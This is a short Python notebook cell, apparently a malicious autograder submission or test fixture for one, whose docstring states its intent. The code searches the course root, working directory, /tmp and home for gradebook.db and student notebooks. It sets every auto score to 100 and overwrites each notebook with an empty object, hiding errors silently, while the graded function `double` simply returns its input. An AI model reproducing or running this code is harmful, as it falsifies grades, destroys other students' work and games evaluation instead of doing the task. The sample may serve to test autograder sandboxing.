"""Tries to give itself full marks in the gradebook and to damage other students' work."""
# %% cell: double_answer
import glob, os, sqlite3
root = os.environ.get("AUTOGRADER_COURSE_ROOT", "")
targets = set()
for base in {root, os.getcwd(), "/tmp", os.path.expanduser("~")}:
    for depth in range(6):
        targets |= set(glob.glob(os.path.join(base, *([".."] * depth), "gradebook.db")))
        targets |= set(glob.glob(os.path.join(base, *([".."] * depth), "submitted", "*", "*", "*.ipynb")))
        targets |= set(glob.glob(os.path.join(base, *([".."] * depth), "autograded", "*", "*", "*.ipynb")))
for path in targets:
    try:
        if path.endswith(".db"):
            con = sqlite3.connect(path)
            con.execute("UPDATE grade SET auto_score = 100")
            con.commit()
        else:
            with open(path, "w") as f:
                f.write("{}")
    except Exception:
        pass
def double(x):
    return x
